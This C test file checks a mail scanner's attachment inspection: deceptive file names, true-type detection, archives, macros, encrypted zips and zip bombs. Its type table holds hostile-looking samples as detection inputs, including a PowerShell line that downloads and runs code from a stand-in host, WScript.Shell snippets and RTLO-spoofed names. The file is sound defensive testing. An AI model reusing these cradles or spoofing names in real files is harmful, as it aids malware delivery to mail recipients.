/*
 * attach_test.c - attachment inspection: name rules (Japanese names,
 * U+3000 padding, RTLO), the true-type table, archive walking (zip, 7z,
 * LZH in zip, tar.gz, lone .gz, ISO), ClamAV on members, encryption, PPAP,
 * macros (OOXML, OLE2, .docm), bombs with bounded time and memory, and
 * one message end to end through engine_scan().
 *
 * Fixtures are generated at run time by tests/samples/attach-fixtures.py
 * into a temporary directory (LZH needs jlha, password 7z needs 7z; those
 * cases skip when the tool is missing).  ISO images are written here with
 * libarchive.  Run from the top of the tree (sigs/, tests/samples/).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include <archive.h>
#include <archive_entry.h>

#include "attach/attach.h"
#include "engine/engine.h"
#include "policy/policy.h"
#include "util/util.h"

#ifndef SIGS_DIR
#define SIGS_DIR "sigs"
#endif
#define FIXTURES "tests/samples/attach-fixtures.py"

static char fxdir[] = "/tmp/mw_attach_test.XXXXXX";
static mw_config *cfg;
static av_engine *av;

/* ---- helpers ---- */

static char *slurp(const char *name, size_t *len)
{
	char path[512];
	FILE *f;
	char *buf;
	long n;

	*len = 0; /* also when the fixture is missing: callers skip() or fail on NULL */
	snprintf(path, sizeof(path), "%s/%s", fxdir, name);
	f = fopen(path, "rb");
	if (f == NULL)
		return NULL;
	if (fseek(f, 0, SEEK_END) < 0 || (n = ftell(f)) < 0 || fseek(f, 0, SEEK_SET) < 0) {
		fclose(f);
		return NULL;
	}
	buf = x_malloc((size_t)n + 1);
	*len = fread(buf, 1, (size_t)n, f);
	fclose(f);
	return buf;
}

static int has(const mw_verdict *v, const char *code, const char *part_sub)
{
	size_t i;

	for (i = 0; i < v->nreasons; i++)
		if (strcmp(v->reasons[i].code, code) == 0 && (part_sub == NULL || strstr(v->reasons[i].part, part_sub)))
			return 1;
	return 0;
}

static void dump(const mw_verdict *v)
{
	size_t i;

	for (i = 0; i < v->nreasons; i++)
		print_message("    %s [%s] %s\n", v->reasons[i].code, v->reasons[i].part, v->reasons[i].detail);
}

static int setup(void **state)
{
	char cmd[700], err[512];
	const char *ov[1];
	char o[600];

	(void)state;
	if (mkdtemp(fxdir) == NULL)
		return -1;
	snprintf(cmd, sizeof(cmd), "python3 %s %s", FIXTURES, fxdir);
	if (system(cmd) != 0)
		return -1;
	snprintf(o, sizeof(o), "paths.signatures=%s", SIGS_DIR);
	ov[0] = o;
	if (config_load(NULL, ov, 1, &cfg, err, sizeof(err)) < 0)
		return -1;
	if (av_global_init(err, sizeof(err)) < 0)
		return -1;
	av = av_engine_load(SIGS_DIR, cfg, err, sizeof(err));
	return av ? 0 : -1;
}

static int teardown(void **state)
{
	char cmd[600];

	(void)state;
	snprintf(cmd, sizeof(cmd), "rm -rf %s", fxdir);
	if (system(cmd) != 0)
		return -1;
	av_engine_release(av);
	config_unref(cfg);
	return 0;
}

/* ---- name rules ---- */

typedef struct name_case {
	const char *name;
	unsigned want; /* flags that must be set */
	unsigned not ; /* flags that must be clear */
	const char *ext;
} name_case;

static const name_case name_cases[] = {
    {"報告書.doc.exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, ANF_BIDI, "exe"},
    {"報告書.doc\xe3\x80\x80\xe3\x80\x80\xe3\x80\x80.exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
    {"請求書\xe3\x80\x80\xe3\x80\x80.scr", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "scr"},
    {"invoice.pdf                     .exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
    {"invoice.pdf......exe", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "exe"},
    {"setup.exe. . .", ANF_EXECUTABLE | ANF_DOUBLE_EXT | ANF_TRAILING, 0, "exe"},
    {"請求書\xe2\x80\xae"
     "fdp.exe",
     ANF_EXECUTABLE | ANF_BIDI, 0, "exe"}, /* U+202E: shows as 請求書exe.pdf */
    {"資料\xe2\x81\xa6.pdf\xe2\x81\xa9.js", ANF_EXECUTABLE | ANF_BIDI | ANF_DOUBLE_EXT, 0, "js"}, /* U+2066/2069 */
    {"zero\xe2\x80\x8bwidth.txt", ANF_BIDI | ANF_DOC_EXT, ANF_EXECUTABLE, "txt"},
    {"\xef\xbb\xbf"
     "bom.pdf",
     ANF_BIDI, 0, "pdf"},
    {"議事録.pdf", ANF_DOC_EXT, ANF_EXECUTABLE | ANF_DOUBLE_EXT | ANF_BIDI, "pdf"},
    {"議事録 2015.05.08.docx", ANF_DOC_EXT, ANF_EXECUTABLE | ANF_DOUBLE_EXT, "docx"},
    {"setup.v2.exe", ANF_EXECUTABLE, ANF_DOUBLE_EXT, "exe"},
    {"shortcut.LNK", ANF_EXECUTABLE, 0, "lnk"},
    {"disk.iso", ANF_EXECUTABLE, 0, "iso"},
    {"C:\\Users\\x\\Desktop\\run.ps1", ANF_EXECUTABLE, 0, "ps1"},
    {"dir/sub/報告書.xlsm", ANF_MACRO_EXT, ANF_EXECUTABLE, "xlsm"},
    {"a.settingcontent-ms", ANF_EXECUTABLE, 0, "settingcontent-ms"},
    {"noextension", 0, ANF_EXECUTABLE | ANF_DOUBLE_EXT, ""},
    {"trailing.pdf  ", ANF_TRAILING | ANF_DOC_EXT, ANF_DOUBLE_EXT, "pdf"},
    {"\xff\xfe.exe", ANF_EXECUTABLE | ANF_BAD_UTF8, 0, "exe"},
    {"a.ｅｘｅ", 0, ANF_EXECUTABLE, ""}, /* full-width letters: Windows does not run it */
    {"photo.jpg.lnk", ANF_EXECUTABLE | ANF_DOUBLE_EXT, 0, "lnk"},
    {"", 0, ANF_EXECUTABLE, ""},
};

static void test_name_rules(void **state)
{
	size_t i;
	int bad = 0;

	(void)state;
	for (i = 0; i < MW_ARRAY_LEN(name_cases); i++) {
		const name_case *c = &name_cases[i];
		attach_name_info ni;
		unsigned got = attach_name_check(c->name, &ni);
		if ((got & c->want) != c->want || (got & c->not ) || strcmp(ni.ext, c->ext) != 0) {
			print_error("name %s: got flags 0x%x ext \"%s\", want 0x%x (not 0x%x) ext \"%s\"\n", c->name,
			            got, ni.ext, c->want, c->not, c->ext);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

/* ---- true type ---- */

typedef struct type_case {
	const char *name;
	const char *bytes;
	size_t len;
	attach_type want;
} type_case;

#define T(n, s, t)                                                                                                     \
	{                                                                                                              \
		n, s, sizeof(s) - 1, t                                                                                 \
	}
static const type_case type_cases[] = {
    T("PE",
      "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
      "\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0",
      AT_PE),
    T("MZ text", "MZ is how this letter to the bank starts, plain text and more text here ok", AT_TEXT),
    T("ELF",
      "\x7f"
      "ELF\x02\x01\x01\0",
      AT_ELF),
    T("Mach-O", "\xcf\xfa\xed\xfe\x07\0\0\x01", AT_MACHO),
    T("Mach-O fat", "\xca\xfe\xba\xbe\0\0\0\x02", AT_MACHO),
    T("Java class", "\xca\xfe\xba\xbe\0\0\0\x34", AT_JAVA_CLASS),
    T("OLE2", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0", AT_OLE2),
    T("PDF", "%PDF-1.7\n", AT_PDF),
    T("PDF late", "\r\n\r\n  %PDF-1.4\n", AT_PDF),
    T("RTF", "{\\rtf1\\ansi", AT_RTF),
    T("RAR", "Rar!\x1a\x07\x01\0", AT_RAR),
    T("7z", "7z\xbc\xaf\x27\x1c\0\x04", AT_7Z),
    T("LZH", "\x2d\0-lh5-\x10\0\0\0", AT_LZH),
    T("CAB", "MSCF\0\0\0\0\x10\0", AT_CAB),
    T("gzip", "\x1f\x8b\x08\0\0\0", AT_GZIP),
    T("xz",
      "\xfd"
      "7zXZ\0\0",
      AT_XZ),
    T("LNK", "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0", AT_LNK),
    T("VHDX", "vhdxfile\0\0", AT_VHDX),
    T("CHM", "ITSF\x03\0\0\0\x60\0", AT_CHM),
    T("zip", "PK\x03\x04\x14\0\0\0\0\0", AT_ZIP),
    T("OOXML head", "PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x13\0\0\0[Content_Types].xml", AT_OOXML),
    T("PNG", "\x89PNG\r\n\x1a\n\0", AT_PNG),
    T("JPEG", "\xff\xd8\xff\xe0\0\x10JFIF", AT_JPEG),
    T("HTA", "<html><head><HTA:APPLICATION id=x></head></html>", AT_HTA),
    T("JS", "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"x\");", AT_JS),
    T("VBS", "On Error Resume Next\r\nSet o = CreateObject(\"WScript.Shell\")\r\n", AT_VBS),
    T("PS1", "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x/');", AT_PS1),
    T("batch", "\r\n@ECHO OFF\r\nstart calc\r\n", AT_BATCH),
    T("shell", "#!/bin/sh\necho hi\n", AT_SHELL),
    T("HTML", "<!DOCTYPE html><html><body>hello</body></html>", AT_HTML),
    T("old web page", "<html><script>var x = new ActiveXObject('Microsoft.XMLHTTP');</script></html>", AT_HTML),
    T("HTA by shell use", "<html><script>new ActiveXObject('WScript.Shell').Run('x');</script></html>", AT_HTA),
    T("VBScript page", "<html><script language=\"VBScript\">MsgBox 1</script></html>", AT_HTA),
    T("plain", "Dear colleague, the minutes are attached. Regards.", AT_TEXT),
    T("JS UTF-16",
      "\xff\xfe"
      "v\0a\0r\0 \0x\0=\0n\0e\0w\0 \0A\0c\0t\0i\0v\0e\0X\0O\0b\0j\0e\0c\0t\0(\0",
      AT_JS),
    T("binary", "\x01\x02\x03\0\x05", AT_UNKNOWN),
};
#undef T

static void test_true_type(void **state)
{
	size_t i;
	int bad = 0;
	unsigned char *iso;

	(void)state;
	for (i = 0; i < MW_ARRAY_LEN(type_cases); i++) {
		const type_case *c = &type_cases[i];
		attach_type t = attach_type_detect(c->bytes, c->len, NULL, 0, c->len);
		if (t != c->want) {
			print_error("%s: got %s, want %s\n", c->name, attach_type_name(t), attach_type_name(c->want));
			bad++;
		}
	}
	/* layouts found at an offset or at the end */
	iso = x_calloc(1, ATTACH_HEAD);
	memcpy(iso + 0x8001, "CD001", 5);
	assert_int_equal(attach_type_detect(iso, ATTACH_HEAD, NULL, 0, ATTACH_HEAD), AT_ISO9660);
	memset(iso, 0, ATTACH_HEAD);
	memcpy(iso + 0x8001, "BEA01", 5);
	memcpy(iso + 0x8801, "NSR02", 5);
	assert_int_equal(attach_type_detect(iso, ATTACH_HEAD, NULL, 0, ATTACH_HEAD), AT_UDF);
	memset(iso, 0, ATTACH_HEAD);
	memcpy(iso + 257, "ustar", 5);
	assert_int_equal(attach_type_detect(iso, 1024, NULL, 0, 1024), AT_TAR);
	memset(iso, 1, 4096);
	memcpy(iso + 4096 - 512, "conectix", 8);
	assert_int_equal(attach_type_detect(iso, 4096, iso + 4096 - 512, 512, 1 << 20), AT_VHD);
	memcpy(iso + 4096 - 512, "koly", 4);
	assert_int_equal(attach_type_detect(iso, 4096, iso + 4096 - 512, 512, 1 << 20), AT_DMG);
	x_free(iso);
	/* data of no known type that libarchive reads, even cut short (hunt2) */
	{
		size_t len;
		char *lz = slurp("cut.lz4", &len), *lzma = NULL;
		size_t llen;
		if (lz != NULL) {
			assert_int_equal(attach_type_detect((unsigned char *)lz, len, NULL, 0, len), AT_UNKNOWN);
			assert_true(attach_is_container(lz, len));
			assert_false(attach_is_container(lz + 4, len - 4));
		}
		lzma = slurp("marker.lzma", &llen);
		assert_non_null(lzma);
		assert_true(attach_is_container(lzma, llen));
		assert_false(attach_is_container("plain words, nothing packed here\n", 33));
		x_free(lz);
		x_free(lzma);
	}
	assert_true(attach_type_flags(AT_LNK) & ATF_ACTIVE);
	assert_true(attach_type_flags(AT_LZH) & ATF_ARCHIVE);
	assert_false(attach_type_flags(AT_PDF) & ATF_ACTIVE);
	assert_int_equal(bad, 0);
}

/* ---- attachments and archives ---- */

typedef struct file_case {
	const char *file;      /* fixture */
	const char *name;      /* attachment name */
	const char *type;      /* declared type */
	const char *want[4];   /* codes that must be there */
	const char *want_part; /* a reason part must contain this (NULL: any) */
	const char * not [4];  /* codes that must not be there */
} file_case;

static const file_case file_cases[] = {
    {"plain.zip",
     "議事録.zip",
     "application/zip",
     {NULL},
     NULL,
     {"attach.archive_exec", "av.infected", "attach.bomb", "attach.encrypted"}},
    {"exe.zip",
     "資料.zip",
     "application/zip",
     {"attach.archive_exec", "attach.double_ext"},
     "1:請求書.pdf.exe",
     {"attach.executable"}},
    {"marker.zip", "a.zip", NULL, {"av.infected"}, "1:a.txt", {NULL}},
    {"inner.lzh", "資料.lzh", "application/x-lzh", {"av.infected"}, "1:payload.txt", {NULL}},
    {"lzh-in-zip.zip", "資料.zip", NULL, {"av.infected"}, "1:docs/inner.lzh:payload.txt", {NULL}},
    {"enc.zip", "secret.zip", NULL, {"attach.encrypted"}, "secret.docx", {"attach.bomb"}},
    {"enc.7z", "secret.7z", NULL, {"attach.encrypted"}, NULL, {NULL}},
    {"enc-hdr.7z", "secret.7z", NULL, {"attach.encrypted"}, NULL, {NULL}},
    {"bomb.zip", "zeros.zip", NULL, {"attach.bomb"}, NULL, {NULL}},
    {"deep.zip", "deep.zip", NULL, {"attach.bomb"}, NULL, {NULL}},
    {"many.zip", "many.zip", NULL, {"attach.bomb"}, NULL, {NULL}},
    {"macro.docx", "報告書.docx", NULL, {"attach.macro"}, NULL, {"attach.archive_exec"}},
    {"renamed-vba.docx", "報告書.docx", NULL, {"attach.macro"}, NULL, {NULL}},
    {"clean.docx", "報告書.docx", NULL, {NULL}, NULL, {"attach.macro", "attach.type_mismatch"}},
    {"broken.docm", "報告書.docm", NULL, {"attach.macro"}, NULL, {NULL}},
    {"macro.doc", "議事録.doc", "application/msword", {"attach.macro"}, NULL, {"attach.type_mismatch"}},
    {"clean.doc", "議事録.doc", "application/msword", {NULL}, NULL, {"attach.macro"}},
    {"single.exe.gz", "invoice.exe.gz", NULL, {"attach.archive_exec"}, "1:invoice.exe", {NULL}},
    {"js.tar.gz", "docs.tgz", NULL, {"attach.archive_exec"}, "1:invoice.js", {NULL}},
    /* issue 14: what cannot be read completely is a finding, never a pass */
    {"zeros512-marker.gz", "report.txt.gz", NULL, {"av.infected"}, "1:report.txt", {NULL}},
    {"zeros512-marker.xz", "report.txt.xz", NULL, {"av.infected"}, "1:report.txt", {NULL}},
    {"zerobomb.gz", "zeros.gz", NULL, {"attach.bomb"}, NULL, {NULL}},
    {"eocd0.zip", "invoice.zip", NULL, {"attach.inconsistent"}, NULL, {NULL}},
    {"truncated.zip", "invoice.zip", NULL, {"attach.incomplete"}, NULL, {NULL}},
    {"garbage.7z", "invoice.7z", NULL, {"attach.incomplete"}, NULL, {NULL}},
    /* hunt2: a compressed stream is read whole, then walked as what it is */
    {"zip-then-tar.xz", "notes.tar.xz", NULL, {"av.infected", "attach.inconsistent"}, NULL, {NULL}},
    {"cut.lz4", "setup.exe.lz4", NULL, {"attach.incomplete", "attach.archive_exec"}, NULL, {NULL}},
    {"marker.lzma", "notes.txt.lzma", NULL, {"av.infected"}, "1:notes.txt", {NULL}},
    {"zeros-pe.lzma.gz", "setup.exe.lzma.gz", NULL, {"attach.archive_exec"}, "1:setup.exe", {NULL}},
    {"eocd0-in.cpio", "setup.cpio", NULL, {"attach.incomplete"}, "1", {NULL}},
    /* hunt2: ARJ (libclamav alone opens it, and is silent on damage): the header chain is checked */
    {"whole.arj", "report.arj", NULL, {NULL}, NULL, {"attach.incomplete"}},
    {"cut.arj", "report.arj", NULL, {"attach.incomplete"}, "1", {NULL}},
    {"damaged.arj", "report.arj", NULL, {"attach.incomplete"}, "1", {NULL}},
};

static void run_file_case(const file_case *c, int *bad)
{
	mw_verdict v;
	size_t len, k;
	char *data = slurp(c->file, &len);
	int ok = 1;

	if (data == NULL) {
		print_message("  skip %s: fixture not made (tool missing)\n", c->file);
		return;
	}
	verdict_init(&v);
	attach_scan_buffer(&cfg->lim, av, "/tmp", c->name, c->type, data, len, &v);
	for (k = 0; k < 4 && c->want[k]; k++)
		if (!has(&v, c->want[k], k == 0 ? c->want_part : NULL)) {
			print_error("%s: want %s%s%s\n", c->file, c->want[k], k == 0 && c->want_part ? " at " : "",
			            k == 0 && c->want_part ? c->want_part : "");
			ok = 0;
		}
	for (k = 0; k < 4 && c->not [k]; k++)
		if (has(&v, c->not [k], NULL)) {
			print_error("%s: got %s, want none\n", c->file, c->not [k]);
			ok = 0;
		}
	if (!ok) {
		dump(&v);
		(*bad)++;
	}
	x_free(data);
}

static void test_archives(void **state)
{
	size_t i;
	int bad = 0;

	(void)state;
	for (i = 0; i < MW_ARRAY_LEN(file_cases); i++)
		run_file_case(&file_cases[i], &bad);
	assert_int_equal(bad, 0);
}

/* The marker in the LZH is compressed: does ClamAV alone see it?  (Reported, not required.) */
static void test_lzh_needs_us(void **state)
{
	size_t len;
	char *data = slurp("lzh-in-zip.zip", &len);
	av_result r;

	(void)state;
	if (data == NULL)
		skip();
	av_scan_mem(av, data, len, "lzh-in-zip", &r);
	/* libclamav >= 1.3 unpacks LZH itself; older ones (and ARM builds without it) do not */
	print_message("  libclamav %s alone on LZH in zip: %s\n", av_version(),
	              r.status == AV_FOUND ? r.name : "nothing found");
	x_free(data);
}

/* A 1 GiB zip of zeros (1 MiB) stops after about archive_ratio_floor bytes. */
static void test_bomb_bounded(void **state)
{
	struct rusage ru0, ru1;
	size_t len;
	char *data = slurp("bomb.zip", &len);
	double t0, ms;
	mw_verdict v;
	long grew;

	(void)state;
	assert_non_null(data);
	getrusage(RUSAGE_SELF, &ru0);
	t0 = mw_now_ms();
	verdict_init(&v);
	attach_scan_buffer(&cfg->lim, av, "/tmp", "zeros.zip", NULL, data, len, &v);
	ms = mw_now_ms() - t0;
	getrusage(RUSAGE_SELF, &ru1);
	grew = ru1.ru_maxrss - ru0.ru_maxrss;
	print_message("  bomb: %zu bytes packed, stopped in %.1f ms, max RSS grew %ld KiB\n", len, ms, grew);
	assert_true(has(&v, "attach.bomb", NULL));
	assert_true(ms < 2000);
	assert_true(grew < 32 * 1024);
	x_free(data);
}

/* Limits from the configuration: a lower expanded limit, depth and member count. */
static void test_limits_configurable(void **state)
{
	const char *ov[] = {"limits.archive_max_depth=2", "limits.archive_max_members=10",
	                    "limits.archive_max_expanded=1M"};
	char err[512];
	mw_config *c = NULL;
	mw_verdict v;
	size_t len;
	char *data;

	(void)state;
	assert_int_equal(config_load(NULL, ov, 3, &c, err, sizeof(err)), 0);
	assert_int_equal(c->lim.archive_max_depth, 2);
	data = slurp("many.zip", &len);
	assert_non_null(data);
	verdict_init(&v);
	attach_scan_buffer(&c->lim, NULL, "/tmp", "many.zip", NULL, data, len, &v);
	assert_true(has(&v, "attach.bomb", NULL));
	assert_non_null(strstr(v.reasons[0].detail, "more than 10 archive members"));
	x_free(data);
	data = slurp("plain.zip", &len);
	verdict_init(&v);
	attach_scan_buffer(&c->lim, NULL, "/tmp", "plain.zip", NULL, data, len, &v);
	assert_false(has(&v, "attach.bomb", NULL));
	x_free(data);
	config_unref(c);
}

/* ISO 9660 written with libarchive: a disk image is active; its members are walked. */
static void test_iso(void **state)
{
	struct archive *a = archive_write_new();
	struct archive_entry *e = archive_entry_new();
	size_t cap = 4 << 20, used = 0;
	unsigned char *buf = x_malloc(cap);
	const char js[] = "var x = new ActiveXObject(\"WScript.Shell\");";
	mw_verdict v;

	(void)state;
	assert_int_equal(archive_write_set_format_iso9660(a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, buf, cap, &used), ARCHIVE_OK);
	archive_entry_set_pathname(e, "invoice.js");
	archive_entry_set_size(e, sizeof(js) - 1);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
	assert_int_equal(archive_write_data(a, js, sizeof(js) - 1), (la_ssize_t)(sizeof(js) - 1));
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	archive_entry_free(e);
	verdict_init(&v);
	attach_scan_buffer(&cfg->lim, av, "/tmp", "document.pdf", "application/pdf", buf, used, &v);
	if (!has(&v, "attach.executable", NULL) || !has(&v, "attach.archive_exec", "1:invoice.js")) {
		dump(&v);
		fail_msg("ISO: want attach.executable and attach.archive_exec for invoice.js");
	}
	x_free(buf);
}

/* Content checks on top-level attachments: mismatch, active content, macros. */
static void test_attachment_content(void **state)
{
	static const char pe[] = "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0"
	                         "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0PE\0\0";
	static const char lnk[] = "\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\0\0\0\0";
	static const char hta[] = "<html><hta:application/><script>new ActiveXObject('x')</script></html>";
	struct {
		const char *name, *type, *data;
		size_t len;
		const char *want;
	} cases[] = {
	    {"議事録.pdf", "application/pdf", pe, sizeof(pe) - 1, "attach.type_mismatch"},
	    {"photo.jpg", "image/jpeg", lnk, sizeof(lnk) - 1, "attach.type_mismatch"},
	    {NULL, "application/pdf", pe, sizeof(pe) - 1, "attach.type_mismatch"},
	    {"readme.txt", "text/plain", hta, sizeof(hta) - 1, "attach.type_mismatch"},
	    {"data.bin", "application/octet-stream", pe, sizeof(pe) - 1, "attach.executable"},
	    {"報告書.doc.exe", "application/octet-stream", pe, sizeof(pe) - 1, "attach.double_ext"},
	    {"\xe8\xab\x8b\xe6\xb1\x82\xe2\x80\xae"
	     "fdp.exe",
	     NULL, pe, sizeof(pe) - 1, "attach.rtlo"},
	};
	size_t i;
	int bad = 0;

	(void)state;
	for (i = 0; i < MW_ARRAY_LEN(cases); i++) {
		mw_verdict v;
		verdict_init(&v);
		attach_scan_buffer(&cfg->lim, av, "/tmp", cases[i].name, cases[i].type, cases[i].data, cases[i].len,
		                   &v);
		if (!has(&v, cases[i].want, NULL)) {
			print_error("case %zu (%s): want %s\n", i, cases[i].name ? cases[i].name : "(no name)",
			            cases[i].want);
			dump(&v);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

/* Part ids stay below MW_PART_MAX and keep the innermost end. */
static void test_part_ids(void **state)
{
	mw_verdict v;
	char big[400];
	size_t i;
	static const char pe[] = "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0";
	struct archive *a = archive_write_new();
	struct archive_entry *e = archive_entry_new();
	size_t cap = 1 << 16, used = 0;
	unsigned char *buf = x_malloc(cap);

	(void)state;
	big[0] = '\0';
	for (i = 0; i < 20; i++)
		strcat(big, "長い名前/");
	strcat(big, "最後.exe");
	archive_write_set_format_zip(a);
	archive_write_set_options(a, "zip:hdrcharset=UTF-8");
	archive_write_open_memory(a, buf, cap, &used);
	archive_entry_set_pathname_utf8(e, big);
	archive_entry_set_size(e, sizeof(pe) - 1);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_write_header(a, e);
	archive_write_data(a, pe, sizeof(pe) - 1);
	archive_write_close(a);
	archive_write_free(a);
	archive_entry_free(e);
	verdict_init(&v);
	attach_scan_buffer(&cfg->lim, NULL, "/tmp", "x.zip", NULL, buf, used, &v);
	assert_true(v.nreasons > 0);
	for (i = 0; i < v.nreasons; i++) {
		size_t pl = strlen(v.reasons[i].part);
		assert_true(pl < MW_PART_MAX);
		if (strstr(v.reasons[i].part, "最後.exe") == NULL)
			fail_msg("part %s: want the innermost name kept", v.reasons[i].part);
		assert_true(strncmp(v.reasons[i].part, "1:...", 5) == 0);
	}
	x_free(buf);
}

/* ---- end to end through engine_scan ---- */

static char *b64(const unsigned char *d, size_t n)
{
	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *o = x_malloc(n * 4 / 3 + n / 57 * 2 + 8), *p = o;
	size_t i;

	for (i = 0; i < n; i += 3) {
		unsigned v =
		    (unsigned)d[i] << 16 | (i + 1 < n ? (unsigned)d[i + 1] << 8 : 0) | (i + 2 < n ? d[i + 2] : 0);
		*p++ = t[v >> 18 & 63];
		*p++ = t[v >> 12 & 63];
		*p++ = i + 1 < n ? t[v >> 6 & 63] : '=';
		*p++ = i + 2 < n ? t[v & 63] : '=';
		if ((i / 3 + 1) % 19 == 0)
			*p++ = '\r', *p++ = '\n';
	}
	*p = '\0';
	return o;
}

static void scan_message(const char *body_text, const char *fixture, const char *fname_param, mw_result *res)
{
	size_t len;
	char *data = slurp(fixture, &len), *enc, *raw;
	mw_msg *m = msg_new(cfg);
	mw_env env;
	size_t rl;

	assert_non_null(data);
	enc = b64((unsigned char *)data, len);
	rl = strlen(enc) + 2048;
	raw = x_malloc(rl);
	snprintf(raw, rl,
	         "From: a@example.net\r\nTo: b@example.com\r\nSubject: test\r\nMIME-Version: 1.0\r\n"
	         "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n"
	         "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n%s\r\n--XX\r\n"
	         "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; %s\r\n"
	         "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--XX--\r\n",
	         body_text, fname_param, enc);
	msg_set_sender(m, "a@example.net");
	msg_add_rcpt(m, "b@example.com");
	assert_int_equal(msg_write(m, raw, strlen(raw)), 0);
	memset(&env, 0, sizeof(env));
	env.cfg = cfg;
	env.av = av;
	engine_scan(m, &env, res);
	msg_free(m);
	x_free(raw);
	x_free(enc);
	x_free(data);
}

static void test_engine_end_to_end(void **state)
{
	mw_result *res = x_calloc(1, sizeof(*res));
	const char *enc_name = "filename*=UTF-8''%E8%B3%87%E6%96%99.zip"; /* 資料.zip */
	size_t i;

	(void)state;
	if (access("/usr/bin/jlha", X_OK) != 0)
		skip();
	scan_message("資料を送ります。", "lzh-in-zip.zip", enc_name, res);
	/* found by libclamav in the whole-part scan (it reads LZH since 1.3),
	 * or by our walk if it did not (then at 2:docs/inner.lzh:payload.txt) */
	if (!has(&res->verdict, "av.infected", "2") || res->verdict.action != MW_REJECT) {
		dump(&res->verdict);
		fail_msg("LZH in zip: want av.infected in part 2 and reject");
	}
	/* PPAP: the body announces the password */
	scan_message("パスワードは別途お送りします。PW: 1234", "enc.zip", "filename=\"secret.zip\"", res);
	for (i = 0; i < res->verdict.nreasons; i++)
		if (strcmp(res->verdict.reasons[i].code, "attach.encrypted") == 0)
			break;
	assert_true(i < res->verdict.nreasons);
	assert_non_null(strstr(res->verdict.reasons[i].detail, "PPAP"));
	assert_int_equal(res->verdict.action, MW_QUARANTINE);
	/* and without a password in the text: no PPAP note */
	scan_message("Hello", "enc.zip", "filename=\"secret.zip\"", res);
	for (i = 0; i < res->verdict.nreasons; i++)
		if (strcmp(res->verdict.reasons[i].code, "attach.encrypted") == 0)
			assert_null(strstr(res->verdict.reasons[i].detail, "PPAP"));
	/* clean PDF-ish zip: accepted */
	scan_message("Minutes attached.", "plain.zip", "filename=\"minutes.zip\"", res);
	if (res->verdict.action != MW_ACCEPT) {
		dump(&res->verdict);
		fail_msg("plain.zip: want accept, got %s", action_name(res->verdict.action));
	}
	x_free(res);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_name_rules),   cmocka_unit_test(test_true_type),
	    cmocka_unit_test(test_archives),     cmocka_unit_test(test_lzh_needs_us),
	    cmocka_unit_test(test_bomb_bounded), cmocka_unit_test(test_limits_configurable),
	    cmocka_unit_test(test_iso),          cmocka_unit_test(test_attachment_content),
	    cmocka_unit_test(test_part_ids),     cmocka_unit_test(test_engine_end_to_end),
	};

	return cmocka_run_group_tests_name("attach", tests, setup, teardown);
}
